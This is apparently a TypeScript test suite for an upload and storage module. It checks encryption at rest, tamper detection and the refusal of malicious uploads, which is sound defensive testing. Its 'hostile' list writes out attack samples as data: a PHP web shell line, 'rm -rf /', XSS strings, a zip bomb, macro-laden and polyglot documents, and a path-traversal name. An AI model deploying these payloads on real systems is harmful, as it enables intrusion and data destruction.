import { randomBytes } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import { featureApp } from '../../../test/support/feature-app.ts';
import { openPractice } from '../../../test/support/practice.ts';
import { docxWith, jpgOf, pdfOf, pngOf, sampleFiles, zipOf } from '../../../test/support/sample-files.ts';
import { openWorld } from '../../../test/support/world.ts';
import { EICAR } from '../../connections/virus-scan/fake.ts';
import { scannerNotConnected } from '../../connections/virus-scan/not-connected.ts';
import { webRoutes } from '../http/web.ts';
import { newId } from '../ids.ts';
import { inTransaction } from '../shell.ts';
import { CHUNK } from './chunks.ts';
import {
  arrivedFiles,
  findFiles,
  forgetStrayFiles,
  keepFile,
  readFile,
  receiveUpload,
  sendFile,
  takeInFile,
} from './index.ts';

const world = await openWorld();
let practice: Awaited<ReturnType<typeof openPractice>>;
let owner: string;
beforeAll(async () => {
  practice = await openPractice(world);
  owner = newId();
  await world.vault.createSubject(practice.organisation, owner);
});

async function* streamOf(bytes: Buffer, portion = 50_000) {
  for (let at = 0; at < bytes.length; at += portion) yield bytes.subarray(at, at + portion);
}
async function all(content: AsyncIterable<Buffer>): Promise<Buffer[]> {
  const parts: Buffer[] = [];
  for await (const part of content) parts.push(part);
  return parts;
}
const to = () => ({ ground: world.ground, organisation: practice.organisation, request: newId() });
const takeIn = (name: string, bytes: Buffer, more = {}) => takeInFile(to(), { name, source: streamOf(bytes), ...more });

async function kept(name: string, bytes: Buffer): Promise<string> {
  const arrival = await takeIn(name, bytes);
  if ('refused' in arrival) throw new Error(arrival.refused);
  return (await inTransaction(practice.founder, (c) => keepFile(c, { owner, file: arrival.arrived }))).id;
}

const routes = webRoutes();
routes.get('/bestand/:id', async (w) => {
  const file = await inTransaction(practice.founder, (c) => readFile(c, w.req.param('id')));
  return file ? sendFile(w, file) : w.notFound();
});
routes.post('/bestand', async (w) => {
  const { values, files, refused } = await receiveUpload(w, { largest: 300_000, mostFiles: 2 });
  const names = await inTransaction(practice.founder, async (c) => {
    for (const file of arrivedFiles.parse(files)) await keepFile(c, { owner, file });
    return [
      ...(
        await findFiles(
          c,
          files.map(({ id }) => id),
        )
      ).values(),
    ]
      .map(({ name }) => name)
      .sort();
  });
  return w.json({ values, refused, names });
});
const app = () => featureApp([routes], practice.founder);
const rows = async () => (await world.asSuperuser<{ n: number }>('select count(*)::int as n from files'))[0]!.n;

describe('a file that is kept', () => {
  test.each(Object.keys(sampleFiles))('%s comes back byte for byte, as an attachment only (T-06)', async (name) => {
    const id = await kept(name, sampleFiles[name]!);
    const { headers } = await app().get(`/bestand/${id}`);
    expect(headers.get('content-type')).toBe('application/octet-stream');
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.]+"; filename\*=UTF-8''[\w.]+$/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toContain('sandbox');
    const file = (await inTransaction(practice.founder, (c) => readFile(c, id)))!;
    expect(Buffer.concat(await all(file.content())).equals(sampleFiles[name]!)).toBe(true);
    expect(file.scan).toBe('clean');
  });

  test('stands in the database encrypted, name and key as well', async () => {
    const id = await kept('geheim-kanarie.txt', Buffer.from('kanarie in het bestand '.repeat(5000)));
    const stored = await world.asSuperuser(
      "select f.*, (select string_agg(bytes, ''::bytea) from file_chunks where file_id = f.id) as all_bytes from files f where id = $1",
      [id],
    );
    expect(
      JSON.stringify(stored, (_key, value) =>
        value?.type === 'Buffer' ? Buffer.from(value.data).toString('latin1') : value,
      ),
    ).not.toContain('kanarie');
  });

  test('cannot be read when a portion is gone, changed of place or taken from another file', async () => {
    const bytes = Buffer.from('regel tekst\n'.repeat((3 * CHUNK) / 12));
    const read = async (id: string) => all((await inTransaction(practice.founder, (c) => readFile(c, id)))!.content());
    const [cutOff, swapped, mixed, whole] = await Promise.all([1, 2, 3, 4].map((n) => kept(`a${n}.txt`, bytes)));
    await world.asSuperuser('delete from file_chunks where file_id = $1 and number = 2', [cutOff]);
    await expect(read(cutOff!)).rejects.toThrow('missing');
    await world.asSuperuser('update files set chunks = 2, size = $2 where id = $1', [cutOff, 2 * CHUNK]);
    await expect(read(cutOff!)).rejects.toThrow('cut off');
    await world.asSuperuser('update file_chunks set number = 1 - number + 100 where file_id = $1 and number < 2', [
      swapped,
    ]);
    await world.asSuperuser('update file_chunks set number = number - 100 where file_id = $1 and number >= 100', [
      swapped,
    ]);
    await expect(read(swapped!)).rejects.toThrow('moved');
    await world.asSuperuser(
      'update file_chunks a set bytes = b.bytes from file_chunks b where a.file_id = $1 and b.file_id = $2 and a.number = 0 and b.number = 0',
      [mixed, whole],
    );
    await expect(read(mixed!)).rejects.toThrow('changed');
    expect(Buffer.concat(await read(whole!)).equals(bytes)).toBe(true);
  });

  test('is gone with the key of its owner', async () => {
    const gone = newId();
    await world.vault.createSubject(practice.organisation, gone);
    const arrival = await takeIn('weg.txt', Buffer.from('weg'));
    if ('refused' in arrival) throw new Error(arrival.refused);
    const { id } = await inTransaction(practice.founder, (c) => keepFile(c, { owner: gone, file: arrival.arrived }));
    await world.vault.destroySubject(practice.organisation, gone, { what: 'content' });
    await inTransaction(practice.founder, async (c) => {
      expect(await readFile(c, id)).toBeUndefined();
      expect(await findFiles(c, [id])).toEqual(new Map());
    });
  });

  test('says when nobody scanned it', async () => {
    const ground = { ...world.ground, scanner: scannerNotConnected };
    const arrival = await takeInFile({ ...to(), ground }, { name: 'a.txt', source: streamOf(Buffer.from('a')) });
    expect(arrival).toMatchObject({ arrived: { scan: 'not-scanned' } });
  });

  test('has one owner, and of one organisation', async () => {
    const arrival = await takeIn('een.txt', Buffer.from('een'));
    if ('refused' in arrival) throw new Error(arrival.refused);
    const keep = () => inTransaction(practice.founder, (c) => keepFile(c, { owner, file: arrival.arrived }));
    await keep();
    await expect(keep()).rejects.toThrow('did not arrive');
    expect(arrivedFiles.safeParse([{ ...arrival.arrived }]).success).toBe(false);
    expect(arrivedFiles.safeParse(['een id']).success).toBe(false);
  });
});

/** What each of these is refused for; the name is what an attacker would call it. */
const bomb = zipOf([
  { name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', plain: true },
  { name: 'content.xml', bytes: Buffer.alloc(60_000_000) },
]);
const mixed = (name: string, ...parts: Parameters<typeof docxWith>) => [name, docxWith(...parts)] as const;
const hostile: readonly (readonly [string, string, Buffer])[] = [
  ['infected', 'eicar.txt', Buffer.from(EICAR)],
  ['unpacks-too-large', 'bom.odt', bomb],
  [
    'unpacks-too-large',
    'veel.docx',
    docxWith(...Array.from({ length: 2100 }, (_x, at) => ({ name: `word/${at}.xml`, bytes: '' }))),
  ],
  ['content-differs', 'leugen.docx', docxWith({ name: 'word/a.xml', bytes: Buffer.alloc(500_000), claims: 10 })],
  ['two-kinds-in-one', 'vermomd.docx', docxWith({ name: 'word/a.xml', localName: 'word/b.xml', bytes: 'x' })],
  ['two-kinds-in-one', 'dubbel.docx', docxWith({ name: 'WORD/document.xml', bytes: 'x' })],
  ['macros', ...mixed('macro.docx', { name: 'word/vbaProject.bin', bytes: 'x' })],
  ['macros', ...mixed('activex.docx', { name: 'word/activeX/activeX1.xml', bytes: 'x' })],
  [
    'macros',
    ...mixed('sjabloon.docx', {
      name: 'word/_rels/settings.xml.rels',
      bytes:
        '<Relationships><Relationship Type="x/attachedTemplate" Target="https://kwaad.example.org/a.dotm" TargetMode="External"/></Relationships>',
    }),
  ],
  ['macros', ...mixed('programma.docx', { name: 'word/embeddings/oleObject1.bin', bytes: 'MZ' })],
  ['content-differs', 'pad.docx', docxWith({ name: '../../weg.xml', bytes: 'x' })],
  [
    'content-differs',
    'macro-als.docx',
    zipOf([
      {
        name: '[Content_Types].xml',
        bytes: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      },
    ]),
  ],
  [
    'macros',
    'docm-als.docx',
    zipOf([{ name: '[Content_Types].xml', bytes: 'application/vnd.ms-word.document.macroEnabled.main+xml' }]),
  ],
  ['content-differs', 'archief.docx', zipOf([{ name: 'a.xml', bytes: 'x' }])],
  ['two-kinds-in-one', 'staart.docx', zipOf([{ name: 'a.xml', bytes: 'x' }], { comment: '<script>alert(1)</script>' })],
  ['content-differs', 'ervoor.docx', Buffer.concat([Buffer.from('<html>'), docxWith()])],
  ['kind-not-allowed', 'plaatje.svg', Buffer.from('<svg onload="alert(1)"/>')],
  ['kind-not-allowed', 'pagina.html', Buffer.from('<html>')],
  ['kind-not-allowed', 'macro.docm', docxWith()],
  ['kind-not-allowed', 'programma.exe', Buffer.from('MZ')],
  ['kind-not-allowed', 'archief.zip', docxWith()],
  ['kind-not-allowed', 'brief.pdf.js', pdfOf('a')],
  ['content-differs', 'programma.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(200)])],
  ['content-differs', 'dier.jpg', Buffer.from('GIF89a/*aaaa*/=1;alert(1)')],
  ['two-kinds-in-one', 'zip.pdf', Buffer.concat([pdfOf('a'), docxWith()])],
  ['two-kinds-in-one', 'zip.png', pngOf(10, 10, docxWith())],
  ['two-kinds-in-one', 'zip.jpg', Buffer.concat([jpgOf(10, 10), docxWith()])],
  ['two-kinds-in-one', 'html.jpg', jpgOf(10, 10, '<script>alert(1)</script>')],
  ['two-kinds-in-one', 'pdf.jpg', jpgOf(10, 10, '%PDF-1.4')],
  ['two-kinds-in-one', 'html.pdf', pdfOf('<html><script>alert(1)</script>')],
  ['content-differs', 'ervoor.pdf', Buffer.concat([Buffer.from('GIF89a'), pdfOf('a')])],
  ['two-kinds-in-one', 'geen-einde.pdf', Buffer.from('%PDF-1.7\n1 0 obj\n')],
  ['two-kinds-in-one', 'pagina.txt', Buffer.from('\n\n <!DOCTYPE html><script>alert(1)</script>')],
  ['two-kinds-in-one', 'breed.txt', Buffer.from('\ufeff<html><script>', 'utf16le')],
  ['two-kinds-in-one', 'script.txt', Buffer.from('#!/bin/sh\nrm -rf /')],
  ['two-kinds-in-one', 'php.csv', Buffer.from('<?php system($_GET[1]);')],
  ['content-differs', 'bytes.txt', Buffer.from([65, 0, 66])],
  ['content-differs', 'laat.txt', Buffer.concat([Buffer.alloc(100_000, 'a'), Buffer.from([1])])],
  ['picture-too-large', 'bom.png', pngOf(60_000, 60_000)],
  ['picture-too-large', 'bom.jpg', jpgOf(65_000, 65_000)],
  ['content-differs', 'leeg.png', pngOf(0, 10)],
  ['no-file', 'leeg.txt', Buffer.alloc(0)],
];

describe('T-06: a malicious upload', () => {
  test.each(hostile)('is refused (%s): %s', async (refusal, name, bytes) => {
    const before = await rows();
    expect(await takeIn(name, bytes)).toEqual({ refused: refusal });
    expect(await rows()).toBe(before);
  });

  test('a virus stands in the technical log by its reference, and by no name', async () => {
    const request = newId();
    await takeInFile({ ...to(), request }, { name: 'mina.txt', source: streamOf(Buffer.from(EICAR)) });
    expect(world.lines.filter(({ reference }) => reference === request)).toEqual([
      { event: 'virus-found', reference: request },
    ]);
  });

  test('more bytes than allowed are refused while they come, and nothing is left', async () => {
    const before = await rows();
    expect(await takeIn('groot.txt', Buffer.alloc(2_000_000, 'a'), { largest: 1_500_000 })).toEqual({
      refused: 'too-large',
    });
    expect(await takeIn('groot.txt', Buffer.alloc(1000, 'a'), { truncated: () => true })).toEqual({
      refused: 'too-large',
    });
    expect(await rows()).toBe(before);
  });

  test('of 500 damaged files none is served as a page, and none brings anything down', async () => {
    let seed = 42;
    const next = (below: number) => {
      // mulberry32
      seed = (seed + 0x6d2b79f5) | 0;
      let mixedUp = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      mixedUp = (mixedUp + Math.imul(mixedUp ^ (mixedUp >>> 7), 61 | mixedUp)) ^ mixedUp;
      return ((mixedUp ^ (mixedUp >>> 14)) >>> 0) % below;
    };
    const names = Object.keys(sampleFiles);
    const answers = { refused: 0, kept: 0 };
    for (let nth = 0; nth < 500; nth += 1) {
      const name = names[nth % names.length]!;
      const bytes = damaged(sampleFiles[name]!, next);
      const arrival = await takeIn(name, bytes);
      if ('refused' in arrival) {
        answers.refused += 1;
        continue;
      }
      answers.kept += 1;
      const { id } = await inTransaction(practice.founder, (c) => keepFile(c, { owner, file: arrival.arrived }));
      const { headers, status } = await app().get(`/bestand/${id}`);
      expect(status).toBe(200);
      expect(headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(headers.get('content-type')).toBe('application/octet-stream');
    }
    expect(answers.refused).toBeGreaterThan(100);
    expect(answers.refused + answers.kept).toBe(500);
  }, 60_000);
});

function damaged(bytes: Buffer, next: (below: number) => number): Buffer {
  const copy = Buffer.from(bytes);
  const way = next(5);
  if (way === 0) return copy.subarray(0, next(copy.length));
  if (way === 1) return Buffer.concat([copy, copy.subarray(next(copy.length))]);
  if (way === 2)
    return Buffer.concat([copy.subarray(0, next(copy.length)), Buffer.from('<script>alert(1)</script>'), copy]);
  for (let times = 0; times <= next(20); times += 1) copy[next(copy.length)] = next(256);
  return copy;
}

describe('a form with files', () => {
  const form = (files: [string, Buffer][], fields: [string, string][] = []) => {
    const body = new FormData();
    for (const [name, value] of fields) body.append(name, value);
    for (const [name, bytes] of files) body.append('bijlage', new Blob([new Uint8Array(bytes)]), name);
    return body;
  };
  const send = async (body: FormData) => JSON.parse((await app().send('/bestand', body)).page);

  test('brings its fields and its files, with the names people gave', async () => {
    const body = form(
      [
        ['Verslag van Café.txt', Buffer.from('a')],
        ['b.pdf', pdfOf('b')],
      ],
      [
        ['tekst', 'één\r\nregel'],
        ['soort[]', 'x'],
        ['soort[]', 'y'],
      ],
    );
    expect(await send(body)).toEqual({
      values: { tekst: 'één\nregel', soort: ['x', 'y'] },
      refused: null,
      names: ['Verslag van Café.txt', 'b.pdf'],
    });
  });

  test('keeps what was typed when a file is refused, wherever in the form that file stands', async () => {
    const body = form(
      [
        ['groot.txt', Buffer.alloc(900_000, 'a')],
        ['script.svg', randomBytes(200_000)],
      ],
      [['tekst', 'blijft']],
    );
    body.append('erna', 'ook');
    expect(await send(body)).toEqual({
      values: { tekst: 'blijft', erna: 'ook' },
      refused: { field: 'bijlage', refusal: 'too-large' },
      names: [],
    });
    const stopped = form(
      [
        ['script.svg', randomBytes(250_000)],
        ['b.txt', Buffer.from('b')],
      ],
      [['tekst', 'blijft']],
    );
    expect(await send(stopped)).toMatchObject({
      values: { tekst: 'blijft' },
      refused: { refusal: 'kind-not-allowed' },
    });
    const many = form(['a', 'b', 'c'].map((name) => [`${name}.txt`, Buffer.from(name)]));
    expect(await send(many)).toMatchObject({ refused: { refusal: 'too-many-files' } });
  });

  test('a file field that was left open is no file', async () => {
    expect(await send(form([['', Buffer.alloc(0)]], [['tekst', 'alleen dit']]))).toEqual({
      values: { tekst: 'alleen dit' },
      refused: null,
      names: [],
    });
  });

  test.each([
    [
      'is cut off',
      'multipart/form-data; boundary=x',
      '--x\r\ncontent-disposition: form-data; name="a"; filename="a.txt"\r\n\r\nhalf',
    ],
    ['has no boundary', 'multipart/form-data', 'x'],
    ['is no form', 'multipart/form-data; boundary=x', 'zomaar iets'],
    ['is of another type', 'application/json', '{}'],
  ])('that %s is refused, and what arrived of it is gone', async (_how, type, body) => {
    const before = await rows();
    const half = webRoutes().route('/', routes);
    const request = new Request('http://x/bestand', { method: 'POST', headers: { 'content-type': type }, body });
    const answer = await featureApp([half], practice.founder).raw(request);
    expect(await answer.json()).toMatchObject({ refused: { refusal: 'unreadable' }, names: [] });
    expect(await rows()).toBe(before);
  });
});

test('what arrived and was kept by nobody is removed within the hour', async () => {
  await takeIn('half.txt', Buffer.from('half'));
  const stray = async () =>
    (await world.asSuperuser<{ n: number }>('select count(*)::int as n from files where kept_at is null'))[0]!.n;
  expect(await stray()).toBeGreaterThan(0);
  await forgetStrayFiles(world.ground, practice.organisation);
  expect(await stray()).toBeGreaterThan(0);
  world.clock.moveDays(1);
  await forgetStrayFiles(world.ground, practice.organisation);
  expect(await stray()).toBe(0);
});
